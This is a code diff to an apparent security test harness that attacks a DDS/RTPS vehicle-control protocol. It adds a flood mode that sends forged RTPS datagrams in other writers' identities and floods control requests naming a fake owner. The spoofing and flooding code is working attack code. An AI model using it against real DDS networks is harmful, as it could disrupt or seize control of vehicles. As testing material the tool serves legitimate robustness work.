@@ -13,7 +13,17 @@ Attacks:
   forge-finish    publish a FINISH in --id's name (a grant holder's) for --dest
   request-finish  REQUEST --dest from --owner claiming --priority, then FINISH it
   device-info     publish DeviceInfo for --id (a vehicle's) naming --controller as its owner
-  flood           --writers ControlCommand writers, ids from --id upward, all streaming
+  flood           --writers ControlCommand writers, ids from --id upward, all streaming at
+                  --hz each (default 20); with --requests N, also N RequestControl writers,
+                  ids from --id + 10000 upward, each sending a REQUEST for --dest at
+                  --request-hz that names --nobody as the owner (so no honest peer answers it:
+                  it only fills histories). Says "flooding" on stderr once matched; its
+                  summary adds "requests" (sent) and "seconds" (how long it sent).
+                  With --batch N, each writer's commands leave as one RTPS datagram of N DATA
+                  submessages per period (as a DDS that batches writes sends them; Cyclone's
+                  Python binding cannot batch, so these datagrams are built here, in the
+                  writers' names, with their own sequence numbers, to the domain's user
+                  multicast group).
   listen          not an attack: a foreign *vehicle* built on the seed IDL alone. Reads
                   ControlCommand (reliable, exclusive) in --partition (absent: none, the
                   default partition) and, with --vehicle-info, publishes DeviceInfo for --id as
@@ -27,6 +37,8 @@ one JSON line {"attack": ..., "samples": N, "matched": bool} and exits 0.
 import argparse
 import json
 import os
+import socket
+import struct
 import sys
 import time
 from dataclasses import dataclass
@@ -157,6 +169,69 @@ def stream(writers, ids, dest, throttle, seconds, hz=100):
     return sent
 
 
+USER_MULTICAST = "239.255.0.1"
+CYCLONE_VENDOR = bytes([0x01, 0x10])
+
+
+class Batches:
+    """A writer's commands as RTPS datagrams of `count` DATA submessages each: an INFO_TS (the
+    send time, so that the samples are fresh) and the DATA, little endian, CDR, to the user
+    multicast port of `domain` (7400 + 250 * domain + 1). The writer itself never writes, so
+    these are its samples from sequence number 1 on."""
+
+    def __init__(self, writer, src, a):
+        guid = writer.guid.bytes
+        self.prefix, self.entity = guid[:12], guid[12:]
+        self.src, self.a = src, a
+        self.sn = 1
+        self.port = 7400 + 250 * a.domain + 1
+
+    def datagram(self, count):
+        now_ns = time.time_ns()
+        seconds, frac = now_ns // 10**9, ((now_ns % 10**9) << 32) // 10**9
+        out = [b"RTPS", bytes([2, 1]), CYCLONE_VENDOR, self.prefix,
+               struct.pack("<BBHII", 0x09, 0x01, 8, seconds, frac)]  # INFO_TS
+        for _ in range(count):
+            payload = struct.pack(
+                "<qqIhhhhiQ", self.src, self.a.dest, MOVEMENT, self.a.throttle, 0, 0, 0,
+                MANUAL, stamp())
+            body = struct.pack("<HH4s4siI", 0, 16, bytes(4), self.entity, self.sn >> 32,
+                               self.sn & 0xFFFFFFFF) + bytes([0, 1, 0, 0]) + payload
+            out.append(struct.pack("<BBH", 0x15, 0x05, len(body)) + body)  # DATA, E|D
+            self.sn += 1
+        return b"".join(out)
+
+
+def flood(commands, requests, ids, rids, a):
+    """Paced to an absolute schedule, so that the rates hold whatever a write costs: every
+    period each command writer sends one command and, every `a.hz / a.request_hz` periods,
+    each request writer one REQUEST. Bounded by `a.seconds`; returns the counts and the time
+    it sent for."""
+    sent, asked = 0, 0
+    batches = [Batches(w, src, a) for w, src in zip(commands, ids)] if a.batch else []
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 0)
+    period = 1.0 / a.hz
+    request_every = max(1, round(a.hz / a.request_hz)) if a.request_hz > 0 else 0
+    start = time.monotonic()
+    end, due, tick = start + a.seconds, start, 0
+    while time.monotonic() < end:
+        for b in batches:
+            sock.sendto(b.datagram(a.batch), (USER_MULTICAST, b.port))
+            sent += a.batch
+        for writer, src in zip(commands if not a.batch else [], ids):
+            writer.write(command(src, a.dest, a.throttle))
+            sent += 1
+        if request_every and tick % request_every == 0:
+            for writer, src in zip(requests, rids):
+                writer.write(request(src, a.dest, a.nobody, 1, REQUEST, stamp()))
+                asked += 1
+        tick += 1
+        due += period
+        time.sleep(max(0.0, due - time.monotonic()))
+    return sent, asked, time.monotonic() - start
+
+
 def main():
     p = argparse.ArgumentParser()
     p.add_argument("attack")
@@ -172,6 +247,11 @@ def main():
     p.add_argument("--seconds", type=float, default=2.0)
     p.add_argument("--partition", default=None)
     p.add_argument("--vehicle-info", action="store_true")
+    p.add_argument("--hz", type=float, default=20.0)
+    p.add_argument("--requests", type=int, default=0)
+    p.add_argument("--request-hz", type=float, default=10.0)
+    p.add_argument("--nobody", type=int, default=999)
+    p.add_argument("--batch", type=int, default=0)
     a = p.parse_args()
 
     dp = DomainParticipant(a.domain)
@@ -232,9 +312,15 @@ def main():
             time.sleep(0.05)
     elif a.attack == "flood":
         ws = [command_writer(dp, commands, a.strength) for _ in range(a.writers)]
-        matched = wait_matched(ws[-1])
+        rws = [DataWriter(dp, requests, qos=req_qos) for _ in range(a.requests)]
+        matched = wait_matched(ws[-1]) and all(wait_matched(w) for w in rws[-1:])
         ids = [a.id + i for i in range(a.writers)]
-        samples = stream(ws, ids, a.dest, a.throttle, a.seconds, hz=20)
+        rids = [a.id + 10000 + i for i in range(a.requests)]
+        print("flooding", file=sys.stderr, flush=True)
+        samples, asked, seconds = flood(ws, rws, ids, rids, a)
+        print(json.dumps({"attack": a.attack, "samples": samples, "requests": asked,
+                          "seconds": round(seconds, 3), "matched": matched}), flush=True)
+        return 0
     elif a.attack == "listen":
         sub_qos = Qos(Policy.Partition([a.partition])) if a.partition is not None else None
         sub = Subscriber(dp, qos=sub_qos)
